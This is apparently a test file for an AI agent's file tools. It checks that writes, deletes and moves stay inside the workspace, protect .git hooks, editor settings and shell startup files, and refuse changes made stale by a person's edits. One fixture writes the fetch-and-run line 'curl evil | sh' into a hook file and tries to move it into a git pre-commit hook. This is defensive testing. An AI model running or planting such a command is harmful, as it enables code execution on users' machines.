import { describe, test, beforeEach, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { link, mkdir, readFile as readDisk, stat, symlink, writeFile as writeDisk } from 'node:fs/promises';
import path from 'node:path';
import { deleteFile } from '../../../agent/tools/deleteFile';
import { moveFile } from '../../../agent/tools/moveFile';
import { writeFile } from '../../../agent/tools/writeFile';
import { call, context, makeSandbox, type Sandbox } from './fixtures';

let box: Sandbox;
beforeEach(async () => {
  box = await makeSandbox();
});
afterEach(() => box.cleanup());

const exists = (file: string) => stat(file).then(() => true, () => false);

describe('write_file', () => {
  test('creates a file with parent directories; the effect has oldText null', async () => {
    const { ctx } = context(box.root);
    const input = writeFile.input.parse({ path: 'src/new/mod.ts', content: 'export {};\n' });
    const effect = await writeFile.effect(input, ctx);
    const file = path.join(box.root, 'src', 'new', 'mod.ts');
    assert.deepEqual(effect, { type: 'files', changes: [{ path: file, oldText: null, newText: 'export {};\n' }] });
    const result = await writeFile.run(input, ctx, effect);
    assert.equal(result.isError, undefined);
    assert.match(result.forModel, /Created src\/new\/mod\.ts/);
    assert.equal(await readDisk(file, 'utf8'), 'export {};\n');
  });

  test('overwrites showing the whole old text, and refuses if the file changed meanwhile', async () => {
    const file = path.join(box.root, 'a.txt');
    await writeDisk(file, 'before');
    const { ctx } = context(box.root);
    const input = writeFile.input.parse({ path: 'a.txt', content: 'after' });
    const effect = await writeFile.effect(input, ctx);
    assert.deepEqual(effect, { type: 'files', changes: [{ path: file, oldText: 'before', newText: 'after' }] });
    await writeDisk(file, 'person typed this');
    assert.match((await writeFile.run(input, ctx, effect)).forModel, /changed after this change was proposed/);
    assert.equal(await readDisk(file, 'utf8'), 'person typed this');
  });

  test('a file created after a create was approved is not overwritten', async () => {
    const { ctx } = context(box.root);
    const input = writeFile.input.parse({ path: 'late.txt', content: 'agent' });
    const effect = await writeFile.effect(input, ctx);
    await writeDisk(path.join(box.root, 'late.txt'), 'person');
    const result = await writeFile.run(input, ctx, effect);
    assert.equal(result.isError, true);
    assert.equal(await readDisk(path.join(box.root, 'late.txt'), 'utf8'), 'person');
  });

  test('refuses every escape and protected path; nothing outside or protected changes', async () => {
    const secret = path.join(box.outside, 'secret');
    await writeDisk(secret, 'secret');
    await link(secret, path.join(box.root, 'hl'));
    await symlink(box.outside, path.join(box.root, 'out'));
    await symlink(path.join(box.outside, 'planted'), path.join(box.root, 'dangling'));
    await mkdir(path.join(box.root, 'dir'));
    const { ctx } = context(box.root);
    const cases: [string, RegExp][] = [
      ['../outside/new', /outside the workspace/],
      [path.join(box.outside, 'new'), /outside the workspace/],
      ['out/new', /outside the workspace/],
      ['out/deeper/new', /outside the workspace/],
      ['dangling', /symlink.*does not exist/],
      ['hl', /hard links/],
      ['dir', /is a directory/],
      ['.git/hooks/pre-commit', /may never change/],
      ['.git/config', /may never change/],
      ['sub/.git/HEAD', /may never change/],
      ['.accord/policy.json', /may never change/],
      ['.vscode/settings.json', /may never change/],
      ['.VSCODE/tasks.json', /may never change/],
      ['.bashrc', /startup file/],
      ['.zshrc', /startup file/],
      ['~/.bashrc', /home directory/],
    ];
    for (const [requested, pattern] of cases) {
      const result = await call(writeFile, { path: requested, content: 'PWNED' }, ctx);
      assert.equal(result.isError, true, requested);
      assert.match(result.forModel, pattern, requested);
    }
    assert.equal(await readDisk(secret, 'utf8'), 'secret');
    assert.equal(await exists(path.join(box.outside, 'new')), false);
    assert.equal(await exists(path.join(box.outside, 'planted')), false);
    for (const name of ['.git', '.accord', '.vscode', '.bashrc', '.zshrc', 'sub']) assert.equal(await exists(path.join(box.root, name)), false, name);
  });

  test('works when the session root is a symlink to the real directory', async () => {
    const linkRoot = path.join(box.base, 'ws-link');
    await symlink(box.root, linkRoot);
    const { ctx } = context(linkRoot);
    const result = await call(writeFile, { path: 'via-link.txt', content: 'ok' }, ctx);
    assert.equal(result.isError, undefined, result.forModel);
    assert.match(result.forModel, /Created via-link\.txt/);
    assert.equal(await readDisk(path.join(box.root, 'via-link.txt'), 'utf8'), 'ok');
    assert.equal((await call(writeFile, { path: '.git/config', content: 'x' }, ctx)).isError, true);
  });

  test('a file used as a directory gets a plain explanation', async () => {
    await writeDisk(path.join(box.root, 'plain.txt'), 'x');
    const { ctx } = context(box.root);
    const result = await call(writeFile, { path: 'plain.txt/child.txt', content: 'y' }, ctx);
    assert.equal(result.isError, true);
    assert.match(result.forModel, /^Part of the path is a file, not a directory/);
  });

  test('.env is an ordinary project file and can be written', async () => {
    const { ctx } = context(box.root);
    const result = await call(writeFile, { path: '.env', content: 'PORT=3000\n' }, ctx);
    assert.equal(result.isError, undefined);
  });
});

describe('delete_file', () => {
  test('deletes a file; the effect has the whole old text and newText null', async () => {
    const file = path.join(box.root, 'gone.txt');
    await writeDisk(file, 'bye\n');
    const { ctx } = context(box.root);
    const input = deleteFile.input.parse({ path: 'gone.txt' });
    const effect = await deleteFile.effect(input, ctx);
    assert.deepEqual(effect, { type: 'files', changes: [{ path: file, oldText: 'bye\n', newText: null }] });
    const result = await deleteFile.run(input, ctx, effect);
    assert.equal(result.isError, undefined);
    assert.equal(await exists(file), false);
  });

  test('refuses missing files, directories, changed files, escapes and protected paths', async () => {
    await writeDisk(path.join(box.outside, 'secret'), 's');
    await symlink(box.outside, path.join(box.root, 'out'));
    await mkdir(path.join(box.root, '.git'));
    await writeDisk(path.join(box.root, '.git', 'HEAD'), 'ref');
    await mkdir(path.join(box.root, 'd'));
    const { ctx } = context(box.root);
    for (const [requested, pattern] of [
      ['missing', /does not exist/], ['d', /directory/], ['out/secret', /outside/], ['../outside/secret', /outside/], ['.git/HEAD', /may never change/],
    ] as const) {
      const result = await call(deleteFile, { path: requested }, ctx);
      assert.equal(result.isError, true, requested);
      assert.match(result.forModel, pattern);
    }
    assert.equal(await exists(path.join(box.outside, 'secret')), true);
    assert.equal(await exists(path.join(box.root, '.git', 'HEAD')), true);

    const file = path.join(box.root, 'f');
    await writeDisk(file, 'v1');
    const input = deleteFile.input.parse({ path: 'f' });
    const effect = await deleteFile.effect(input, ctx);
    await writeDisk(file, 'v2');
    assert.match((await deleteFile.run(input, ctx, effect)).forModel, /changed after/);
    assert.equal(await readDisk(file, 'utf8'), 'v2');
  });

  test('deleting a hard link removes only the name inside the workspace', async () => {
    const secret = path.join(box.outside, 'secret');
    await writeDisk(secret, 's');
    await link(secret, path.join(box.root, 'hl'));
    const { ctx } = context(box.root);
    const result = await call(deleteFile, { path: 'hl' }, ctx);
    assert.equal(result.isError, undefined);
    assert.equal(await readDisk(secret, 'utf8'), 's');
  });
});

describe('move_file', () => {
  test('moves into a new directory; the effect has movedTo', async () => {
    const source = path.join(box.root, 'a.ts');
    await writeDisk(source, 'code');
    const { ctx } = context(box.root);
    const input = moveFile.input.parse({ source: 'a.ts', destination: 'lib/b.ts' });
    const effect = await moveFile.effect(input, ctx);
    const destination = path.join(box.root, 'lib', 'b.ts');
    assert.deepEqual(effect, { type: 'files', changes: [{ path: source, oldText: 'code', newText: 'code', movedTo: destination }] });
    const result = await moveFile.run(input, ctx, effect);
    assert.equal(result.isError, undefined);
    assert.equal(await exists(source), false);
    assert.equal(await readDisk(destination, 'utf8'), 'code');
  });

  test('refuses an existing destination unless overwrite; then shows the text it replaces', async () => {
    await writeDisk(path.join(box.root, 'a'), 'A');
    await writeDisk(path.join(box.root, 'b'), 'B');
    const { ctx } = context(box.root);
    const refused = await call(moveFile, { source: 'a', destination: 'b' }, ctx);
    assert.match(refused.forModel, /already exists.*overwrite/);
    assert.equal(await readDisk(path.join(box.root, 'b'), 'utf8'), 'B');
    const input = moveFile.input.parse({ source: 'a', destination: 'b', overwrite: true });
    const effect = await moveFile.effect(input, ctx);
    assert.deepEqual(effect, {
      type: 'files',
      changes: [
        { path: path.join(box.root, 'a'), oldText: 'A', newText: 'A', movedTo: path.join(box.root, 'b') },
        { path: path.join(box.root, 'b'), oldText: 'B', newText: 'A' },
      ],
    });
    assert.equal((await moveFile.run(input, ctx, effect)).isError, undefined);
    assert.equal(await readDisk(path.join(box.root, 'b'), 'utf8'), 'A');
  });

  test('a destination created after approval is not clobbered', async () => {
    await writeDisk(path.join(box.root, 'a'), 'A');
    const { ctx } = context(box.root);
    const input = moveFile.input.parse({ source: 'a', destination: 'b' });
    const effect = await moveFile.effect(input, ctx);
    await writeDisk(path.join(box.root, 'b'), 'person');
    assert.match((await moveFile.run(input, ctx, effect)).forModel, /changed after/);
    assert.equal(await readDisk(path.join(box.root, 'b'), 'utf8'), 'person');
    assert.equal(await readDisk(path.join(box.root, 'a'), 'utf8'), 'A');
  });

  test('refuses moving into or out of protected paths and outside the workspace', async () => {
    await writeDisk(path.join(box.root, 'hook.sh'), 'curl evil | sh');
    await mkdir(path.join(box.root, '.git', 'hooks'), { recursive: true });
    await writeDisk(path.join(box.root, '.git', 'config'), '[core]');
    await symlink(box.outside, path.join(box.root, 'out'));
    const { ctx } = context(box.root);
    for (const [source, destination] of [
      ['hook.sh', '.git/hooks/pre-commit'],
      ['hook.sh', '.accord/policy.json'],
      ['hook.sh', '.vscode/tasks.json'],
      ['.git/config', 'config.txt'],
      ['hook.sh', '../outside/x'],
      ['hook.sh', 'out/x'],
      ['hook.sh', '.bashrc'],
    ] as const) {
      const result = await call(moveFile, { source, destination }, ctx);
      assert.equal(result.isError, true, `${source} -> ${destination}`);
    }
    assert.equal(await exists(path.join(box.root, '.git', 'hooks', 'pre-commit')), false);
    assert.equal(await exists(path.join(box.outside, 'x')), false);
    assert.equal(await readDisk(path.join(box.root, '.git', 'config'), 'utf8'), '[core]');
  });
});
